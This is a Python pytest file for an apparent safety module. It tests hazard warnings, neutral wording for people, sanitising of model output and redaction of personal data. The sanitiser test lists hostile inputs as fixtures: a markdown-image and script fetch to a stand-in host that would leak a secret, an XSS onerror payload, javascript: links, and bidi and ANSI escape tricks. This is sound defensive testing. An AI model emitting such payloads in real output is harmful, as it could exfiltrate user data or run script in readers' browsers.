"""Warnings come before dangers, people are not guessed at, and what is stored or exported carries no personal data."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps import safety

SHARED = Path(os.environ.get("MMSLM_SHARED_DATA") or Path(__file__).parents[3] / "shared" / "data")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("A bottle of pills stands on a shelf.", ("medicine",)),
        ("A bus waits at a crossing.", ("traffic",)),
        ("A knife lies beside a burning candle.", ("sharp", "heat")),
        ("A wet floor at the foot of the stairs.", ("fall",)),
        ("A socket with a loose cable.", ("electricity",)),
        ("A twenty euros note, twenty euros in all.", ("money",)),
        ("A bowl of peanuts.", ("food",)),
        ("A cat sleeps on a sofa.", ()),
        ("There are no cars on the lawn.", ()),
        ("A carpet and a carton of scarves.", ()),
    ],
)
def test_a_danger_that_is_mentioned_is_warned_about(text: str, expected: tuple[str, ...]) -> None:
    assert safety.notices(text) == expected


def test_warnings_are_few_and_in_the_order_of_the_text() -> None:
    assert safety.notices("Stairs, a knife, a kettle and a bus.") == ("fall", "sharp")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("An old woman in a red coat waits.", "A person in a red coat waits."),
        ("Two young men and a black dog.", "Two people and a black dog."),
        ("A smiling Asian boy holds his kite.", "A smiling person holds their kite."),
        ("A black cat on a white chair.", "A black cat on a white chair."),
        ("The woman is reading; she is happy and has a book.", "The person is reading; they are happy and has a book."),
        ("Young people cross.", "People cross."),
        ("A manual for a woman's bicycle.", "A manual for a person's bicycle."),
    ],
)
def test_gender_age_and_origin_are_not_guessed_from_looks(text: str, expected: str) -> None:
    assert safety.people(text) == expected


def test_an_unfinished_guess_is_held_back_while_it_streams() -> None:
    text = "A cat and an old woman"
    for cut in range(len(text)):
        part = safety.people(safety.settled(text[: text[:cut].rfind(" ") + 1]))
        assert not {"old", "woman"} & set(part.lower().split())


@pytest.mark.parametrize(
    ("question", "asked"), [("Is this a man or a woman?", True), ("How old is he?", True), ("What is he doing?", False)]
)
def test_it_is_seen_when_looks_are_asked_for_outright(question: str, asked: bool) -> None:
    assert safety.asks_for_looks(question) is asked


@pytest.mark.parametrize(
    "hostile",
    [
        "Look ![x](http://192.0.2.1/?q=secret) here",
        "Look [here](https://192.0.2.1/a) now",
        "<img src=x onerror=alert(1)>A cat",
        "<script>fetch('http://192.0.2.1')</script> A cat",
        "visit www.example.test/leak or javascript:alert(1)",
        "\u202emoc.elpmaxe\u202c and \x1b[31mred",
    ],
)
def test_what_the_model_writes_becomes_plain_words_without_a_way_out(hostile: str) -> None:
    text = safety.plain(hostile)
    for bad in ("http", "www.", "javascript:", "<", "](", "\x1b", "\u202e"):
        assert bad not in text


@given(st.text(max_size=200))
def test_plain_text_is_one_clean_line_and_stays_as_it_is(text: str) -> None:
    once = safety.plain(text)
    assert "\n" not in once and once == once.strip()
    assert safety.plain(once) == once


def test_words_read_in_a_picture_are_quoted_once() -> None:
    assert safety.quoted("EXIT") == "“EXIT”"
    assert safety.quoted('The sign says "EXIT".') == 'The sign says "EXIT".'
    assert safety.quoted("  ") == ""
    assert safety.quoted("there is no text") == "there is no text"


def test_a_reply_becomes_a_sentence() -> None:
    assert safety.sentence("a red cup") == "A red cup."
    assert safety.sentence("Is it?") == "Is it?"
    assert safety.sentence("“exit”") == "“exit”"
    assert safety.sentence("") == ""


# Published test numbers: card schemes' documentation (Luhn) and the ISO 13616 registry (IBAN).
@pytest.mark.parametrize("card", ["4111 1111 1111 1111", "378282246310005", "5555-5555-5555-4444", "6011111111111117"])
def test_cards_with_a_valid_check_digit_are_blacked_out(card: str) -> None:
    assert safety.redact(f"card {card} please") == "card [card] please"


@pytest.mark.parametrize(
    "number", ["GB82 WEST 1234 5698 7654 32", "DE89370400440532013000", "FR14 2004 1010 0505 0001 3M02 606"]
)
def test_valid_ibans_are_blacked_out(number: str) -> None:
    assert safety.iban(number)
    assert safety.redact(f"to {number}.") == "to [IBAN]."
    assert not safety.iban(number[:-1] + ("1" if number[-1] != "1" else "2"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("write to anna.b+x@mail.example.org today", "write to [e-mail] today"),
        ("call +49 30 1234 5678 now", "call [phone] now"),
        ("call (020) 7946 0958", "call [phone]"),
        ("at 12 Old Mill Road, Bath", "at [address]"),
        ("gate 4, 25 cups, bus 117, 3.50", "gate 4, 25 cups, bus 117, 3.50"),
        ("in 2024 there were 1200 of them", "in 2024 there were 1200 of them"),
    ],
)
def test_addresses_of_every_kind_are_blacked_out_and_plain_numbers_are_not(text: str, expected: str) -> None:
    assert safety.redact(text) == expected


def test_redaction_finds_most_personal_data_of_an_outside_data_set() -> None:
    path = SHARED / "benchmarks" / "presidio_synth" / "synth_dataset_v2.json"
    if not path.is_file():
        pytest.skip(f"the data set is not here: {path}")
    least = {"EMAIL_ADDRESS": 0.98, "CREDIT_CARD": 0.98, "IBAN_CODE": 0.98, "PHONE_NUMBER": 0.98}
    hits, total = dict.fromkeys(least, 0), dict.fromkeys(least, 0)
    for entry in json.loads(path.read_text(encoding="utf-8")):
        redacted = None
        for span in entry["spans"]:
            if span["entity_type"] in least:
                redacted = redacted if redacted is not None else safety.redact(entry["full_text"])
                total[span["entity_type"]] += 1
                hits[span["entity_type"]] += span["entity_value"] not in redacted
    recall = {kind: hits[kind] / total[kind] for kind in least if total[kind]}
    assert recall and all(recall[kind] >= least[kind] for kind in recall), recall
